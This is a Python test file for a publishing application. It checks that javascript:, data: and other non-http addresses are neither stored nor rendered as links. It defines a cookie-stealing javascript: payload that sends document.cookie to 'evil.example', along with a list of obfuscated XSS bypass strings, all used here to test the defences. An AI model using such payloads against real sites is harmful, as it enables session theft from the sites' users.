"""Stored XSS through an address: only http(s) URLs are stored, and only http(s) URLs become links,
whether a platform, a pushed comment or a member's form supplied them."""
from __future__ import annotations

from html.parser import HTMLParser

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from onevoice.crisis import intake
from onevoice.errors import InvalidInput
from onevoice.governance import members
from onevoice.governance.permissions import SYSTEM
from onevoice.publishing import outbox, workflow
from onevoice.store.models import Comment, Draft, OutboxEntry
from onevoice.urls import http_url
from onevoice.web.app import create_app
from tests.publishing.workflow_helpers import approved_and_scheduled, cast
from tests.servers.mastodon_api import LocalMastodon
from tests.web.signin import sign_in

HOSTILE = "javascript:fetch('//evil.example/'+document.cookie)"


@pytest.mark.parametrize("url", ["https://mastodon.social/@ipala/1", "http://bsky.app/profile/a/post/b",
                                 "HTTPS://Example.org/a?b=c#d", "  https://example.org/  "])
def test_http_addresses_pass(url):
    assert http_url(url) == url.strip()


@pytest.mark.parametrize("url", ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
                                 "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
                                 "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
                                 "//evil.example/", "/relative/path", "https:alert(1)", "https://",
                                 "http://[::1", "https://exa mple.org/", "https://example.org/" + "a" * 2000,
                                 "", None, 42, ["https://example.org/"]])
def test_other_addresses_do_not(url):
    assert http_url(url) is None


class _Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.hrefs: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.hrefs += [value or "" for name, value in attrs if name in ("href", "src", "action", "formaction")]


def links(html: str) -> list[str]:
    parser = _Links()
    parser.feed(html)
    return parser.hrefs


def assert_only_safe_links(html: str) -> None:
    bad = [h for h in links(html) if not (h.startswith(("/", "#")) and not h.startswith("//")) and http_url(h) is None]
    assert bad == [] and "javascript:" not in html.lower()


def _viewer(system):
    """A committee member, who may read every draft, signed in to the web pages."""
    with system.db.transaction() as s:
        members.add_member(s, SYSTEM, "viewer@example.org", "Viewer", "a long password 1", ("committee",))
    client = TestClient(create_app(system, scheduler=False))
    assert sign_in(client, "viewer@example.org", "a long password 1", follow_redirects=False).status_code == 303
    return client


def test_a_platform_javascript_url_is_neither_stored_nor_linked(sqlite_system):
    system = sqlite_system
    with LocalMastodon() as mastodon:
        org = mastodon.api.add_account("ipala", followers=10)
        genuine = mastodon.api._status_json
        mastodon.api._status_json = lambda status: {**genuine(status), "url": HOSTILE}  # a hostile platform
        c = cast(system, "mastodon", base_url=mastodon.url, credentials={"access_token": org.token})
        d = approved_and_scheduled(system, c)
        [outcome] = outbox.publish_due(system.db, system.connector_for)
    assert outcome.status == "sent"
    with system.db.reader() as s:
        draft = s.get(Draft, d)
        entry = s.scalar(select(OutboxEntry).where(OutboxEntry.draft_id == d))
        assert draft.state == "published" and draft.published_ref["id"]
        assert draft.published_ref["url"] is None and entry.result["url"] is None
    page = _viewer(system).get(f"/drafts/{d}", headers={"accept": "text/html"})
    assert page.status_code == 200 and "published" in page.text
    assert_only_safe_links(page.text)


def test_an_address_stored_before_the_check_is_not_linked(sqlite_system):
    system = sqlite_system
    c = cast(system)
    d = approved_and_scheduled(system, c)
    with system.db.transaction() as s:  # a row written by an older onevoice, unchecked
        draft = s.get(Draft, d)
        draft.state, draft.published_ref = "published", {"id": "1", "url": HOSTILE, "cid": None}
    client = _viewer(system)
    page = client.get(f"/drafts/{d}", headers={"accept": "text/html"})
    assert page.status_code == 200 and "published" in page.text
    assert_only_safe_links(page.text)
    with system.db.transaction() as s:
        s.get(Draft, d).published_ref = {"id": "1", "url": "https://mastodon.social/@ipala/1", "cid": None}
    page = client.get(f"/drafts/{d}", headers={"accept": "text/html"})
    assert "https://mastodon.social/@ipala/1" in links(page.text)  # a genuine address still is a link


def test_an_attachment_address_must_be_http(system):
    c = cast(system)
    with system.db.transaction() as s:
        with pytest.raises(InvalidInput, match="http"):
            workflow.create_draft(s, c.author, c.channel_id, "Our new poster",
                                  attachments=[{"type": "image", "alt": "poster", "url": HOSTILE}])
    with system.db.transaction() as s:
        d = workflow.create_draft(s, c.author, c.channel_id, "Our new poster",
                                  attachments=[{"type": "image", "alt": "poster", "url": "https://ipala.org/p.png"}])
        assert d.attachments[0]["url"] == "https://ipala.org/p.png"


def test_a_comment_keeps_its_text_but_not_a_javascript_link(system):
    c = cast(system)
    intake.ingest(system.db, c.channel_id, [
        {"id": "c1", "text": "Lovely webinar, thanks!", "url": HOSTILE},
        {"id": "c2", "text": "Where can I find the slides?", "url": "https://mastodon.social/@bob/2"},
    ], "import", system.settings)
    with system.db.reader() as s:
        urls = {row.platform_id: row.url for row in s.scalars(select(Comment))}
    assert urls == {"c1": None, "c2": "https://mastodon.social/@bob/2"}
